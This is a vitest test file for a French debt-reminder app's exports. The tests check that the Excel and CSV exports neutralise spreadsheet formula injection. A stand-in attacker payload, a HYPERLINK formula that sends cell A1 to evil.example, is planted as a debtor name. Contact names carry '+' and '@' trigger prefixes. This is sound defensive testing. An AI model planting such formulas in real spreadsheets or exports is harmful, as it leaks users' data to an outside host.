import { beforeEach, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { freshDb } from '../helpers/db';
import { makeContact, makeDebtor, makeInvoice, makeOrganisation, makeUser, TEST_PASSWORD } from '../helpers/factories';
import { loggedIn } from '../helpers/app';
import { eq } from 'drizzle-orm';
import {
	deliveries,
	invoices,
	organisations,
	reminderInvoices,
	reminderRecipients,
	reminders
} from '../../src/lib/server/db/schema';
import type { Db } from '../../src/lib/server/db/types';
import { reminderWorkbook } from '../../src/lib/server/exports/workbook';
import { toCsv } from '../../src/lib/server/exports/csv';
import { toXlsx } from '../../src/lib/server/exports/xlsx';
import { dataSheet, historySheet, listHistory } from '../../src/lib/server/exports/tables';
import { runPass } from '../../src/lib/server/delivery/scheduler';
import { settleReminders } from '../../src/lib/server/delivery/settle';

let db: Db;
let org: { id: string };
const PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")';

async function sentReminder(debtorId: string, contactId: string, invoiceIds: string[], status: 'sent' | 'bounced') {
	const [reminder] = await db
		.insert(reminders)
		.values({
			organisationId: org.id,
			debtorId,
			status: 'sent',
			sendDate: '2026-11-02',
			shortDescription: 'Première relance',
			requiresValidation: false,
			content: { emailSubject: 'Rappel', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' }
		})
		.returning();
	await db.insert(reminderRecipients).values({ reminderId: reminder.id, contactId, channels: ['email'] });
	await db
		.insert(reminderInvoices)
		.values(invoiceIds.map((invoiceId) => ({ reminderId: reminder.id, invoiceId, levelAtSend: 1 })));
	await db.insert(deliveries).values({
		organisationId: org.id,
		reminderId: reminder.id,
		contactId,
		channel: 'email',
		status,
		sentAt: new Date('2026-11-02T09:00:00Z')
	});
}

async function sheetRows(buffer: Buffer) {
	const workbook = new ExcelJS.Workbook();
	await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
	return workbook;
}

beforeEach(async () => {
	db = await freshDb();
	org = await makeOrganisation(db);
	const other = await makeOrganisation(db, 'Autre');
	const evil = await makeDebtor(db, org.id, PAYLOAD);
	const contact = await makeContact(db, org.id, evil.id, {
		email: 'evil@example.fr',
		firstName: '+33 Anne',
		lastName: '@Dupont',
		mobilePhone: '+33612092458'
	});
	const a = await makeInvoice(db, org.id, evil.id, {
		number: 'F-1',
		amountCents: 10000,
		paidCents: 2500,
		reminderLevel: 1
	});
	const b = await makeInvoice(db, org.id, evil.id, {
		number: 'F-2',
		amountCents: 5000,
		paidCents: 5000,
		reminderLevel: 1
	});
	await sentReminder(evil.id, contact.id, [a.id, b.id], 'bounced');
	const orphan = await makeDebtor(db, org.id, 'Sans Destinataire');
	await makeContact(db, org.id, orphan.id, { role: 'garant' });
	await makeInvoice(db, org.id, orphan.id, { number: 'F-3', amountCents: 7000 });
	await makeDebtor(db, other.id, 'Autre agence');
});

describe('the reminder workbook', () => {
	it('opens with three tabs holding the history by invoice, the unpaid invoices and the debtors without a reminder contact', async () => {
		const workbook = await sheetRows(await reminderWorkbook(db, org.id));
		expect(workbook.worksheets.map((w) => w.name)).toEqual(['Relance', 'Facture_du', 'No_destinataire']);
		const values = (name: string) =>
			workbook
				.getWorksheet(name)!
				.getSheetValues()
				.slice(1)
				.map((row) => (row as ExcelJS.CellValue[]).slice(1));

		const history = values('Relance');
		expect(history[0]).toEqual([
			'Date',
			'Compte',
			'Débiteur',
			'Relance',
			'Destinataire',
			'Adresse',
			'Canal',
			'Résultat',
			'Niveau',
			'Facture',
			"Date d'émission",
			'Échéance',
			'Montant',
			'Payé',
			'Reste dû'
		]);
		expect(history).toHaveLength(3);
		expect(history[1].slice(3, 10)).toEqual([
			'Première relance',
			'Mme +33 Anne @Dupont',
			'evil@example.fr',
			'E-mail',
			'Rejeté',
			'1',
			'F-1'
		]);
		expect(history[1].slice(12)).toEqual([100, 25, 75]);
		expect(history[2][9]).toBe('F-2');

		const unpaid = values('Facture_du');
		expect(
			unpaid
				.slice(1)
				.map((r) => r[2])
				.sort()
		).toEqual(['F-1', 'F-3']);
		expect(
			values('No_destinataire')
				.slice(1)
				.map((r) => r[1])
		).toEqual(['Sans Destinataire']);
	});

	it('writes plain values in a workbook, never a formula, and keeps the apostrophe guard for CSV only', async () => {
		const workbook = await sheetRows(await reminderWorkbook(db, org.id));
		const sheet = workbook.getWorksheet('Facture_du')!;
		const row = [2, 3].map((n) => sheet.getRow(n)).find((r) => r.getCell(3).value === 'F-1')!;
		const cell = row.getCell(2);
		expect(cell.type).toBe(ExcelJS.ValueType.String);
		expect(cell.formula).toBeUndefined();
		expect(cell.value).toBe(PAYLOAD);

		const contactsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'contacts')]));
		const contactRows = contactsBook.worksheets[0]
			.getSheetValues()
			.slice(2)
			.map((r) => (r as ExcelJS.CellValue[]).slice(1));
		const evil = contactRows.find((r) => r[5] === 'evil@example.fr')!;
		expect(evil.slice(3, 7)).toEqual(['+33 Anne', '@Dupont', 'evil@example.fr', '+33612092458']);
		const debtorsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'debtors')]));
		expect(
			debtorsBook.worksheets[0]
				.getSheetValues()
				.slice(2)
				.map((r) => (r as ExcelJS.CellValue[])[2])
		).toContain(PAYLOAD);

		const csv = toCsv(await dataSheet(db, org.id, 'debtors')).toString('utf8');
		expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";`);
		expect(csv).not.toMatch(/[;\n]=/);
		const contactsCsv = toCsv(await dataSheet(db, org.id, 'contacts')).toString('utf8');
		expect(contactsCsv).toContain(";'+33 Anne;'@Dupont;evil@example.fr;'+33612092458;");
	});
});

describe('the level of each invoice in the history', () => {
	it('is the level the invoice reached when that reminder was sent, not its level now', async () => {
		const debtor = await makeDebtor(db, org.id, 'Deux relances');
		const contact = await makeContact(db, org.id, debtor.id, { email: 'deux@example.fr' });
		const owed = await makeInvoice(db, org.id, debtor.id, { number: 'G-1', amountCents: 10000 });
		const paid = await makeInvoice(db, org.id, debtor.id, { number: 'G-2', amountCents: 10000, paidCents: 10000 });
		const send = async (shortDescription: string, sentAt: string) => {
			const [reminder] = await db
				.insert(reminders)
				.values({
					organisationId: org.id,
					debtorId: debtor.id,
					status: 'scheduled',
					sendDate: '2026-11-01',
					immediate: true,
					shortDescription,
					requiresValidation: false,
					content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' }
				})
				.returning();
			await db
				.insert(reminderRecipients)
				.values({ reminderId: reminder.id, contactId: contact.id, channels: ['email'] });
			await db
				.insert(reminderInvoices)
				.values([owed.id, paid.id].map((invoiceId) => ({ reminderId: reminder.id, invoiceId })));
			await runPass(db, {
				trigger: 'manual',
				organisationId: org.id,
				reminderIds: [reminder.id],
				enqueue: async () => {}
			});
			// The provider took it: the worker's bookkeeping, then the settling it triggers.
			await db
				.update(deliveries)
				.set({ status: 'sent', sentAt: new Date(sentAt) })
				.where(eq(deliveries.reminderId, reminder.id));
			await db.transaction((tx) => settleReminders(tx, [reminder.id]));
		};
		await send('Première', '2026-11-03T09:00:00Z');
		await send('Deuxième', '2026-11-10T09:00:00Z');
		expect((await db.select().from(invoices).where(eq(invoices.id, owed.id)))[0].reminderLevel).toBe(2);

		const sheet = await historySheet(
			db,
			org.id,
			{},
			(o) => o,
			(c) => c
		);
		const levels = sheet.rows.filter((r) => r[2] === 'Deux relances').map((r) => [r[3], r[9], r[8]]);
		expect(levels).toEqual([
			['Deuxième', 'G-1', '2'],
			['Deuxième', 'G-2', '0'],
			['Première', 'G-1', '1'],
			['Première', 'G-2', '0']
		]);
		const screen = (await listHistory(db, org.id, {})).filter((r) => r.debtorName === 'Deux relances');
		expect(screen.map((r) => [r.shortDescription, r.level])).toEqual([
			['Deuxième', 2],
			['Première', 1]
		]);
	});
});

describe('the date of each line in the history', () => {
	it("is the day in the organisation's time zone", async () => {
		await db.update(organisations).set({ timezone: 'America/New_York' }).where(eq(organisations.id, org.id));
		const debtor = await makeDebtor(db, org.id, 'Fuseau');
		const contact = await makeContact(db, org.id, debtor.id, { email: 'fuseau@example.fr' });
		const [reminder] = await db
			.insert(reminders)
			.values({
				organisationId: org.id,
				debtorId: debtor.id,
				status: 'sent',
				sendDate: '2026-11-02',
				shortDescription: 'Tard le soir',
				requiresValidation: false,
				content: { emailSubject: 'R', emailHeader: '', emailBody: 'x', emailFooter: '', smsText: '', letterBody: '' }
			})
			.returning();
		// 02:00 in Paris on the 3rd is still 20:00 on the 2nd in New York.
		await db.insert(deliveries).values({
			organisationId: org.id,
			reminderId: reminder.id,
			contactId: contact.id,
			channel: 'email',
			status: 'sent',
			sentAt: new Date('2026-11-03T01:00:00Z')
		});
		const sheet = await historySheet(
			db,
			org.id,
			{},
			(o) => o,
			(c) => c
		);
		const line = sheet.rows.find((r) => r[2] === 'Fuseau')!;
		expect(line[0]).toEqual({ date: '2026-11-02' });
	});
});

describe('the export routes', () => {
	it('give a manager the workbook and CSV of his organisation only, and an approver none', async () => {
		const manager = await makeUser(db, org.id, 'manager');
		const client = await loggedIn(manager.email, TEST_PASSWORD);
		const workbook = await client.get('/exporter/classeur');
		expect(workbook.status).toBe(200);
		expect(workbook.headers['content-type']).toContain('spreadsheetml');
		expect(workbook.headers['content-disposition']).toMatch(/^attachment; filename="Relance \d{4}-\d{2}-\d{2}\.xlsx"/);
		const csv = await client.get('/exporter/liste?type=debtors&format=csv');
		expect(csv.body).toContain('Sans Destinataire');
		expect(csv.body).not.toContain('Autre agence');
		const history = await client.get('/historique');
		expect(history.body).toContain('Rejeté');

		const approver = await makeUser(db, org.id, 'approver');
		const refused = await (await loggedIn(approver.email, TEST_PASSWORD)).get('/exporter/classeur');
		expect(refused.status).not.toBe(200);
	});
});
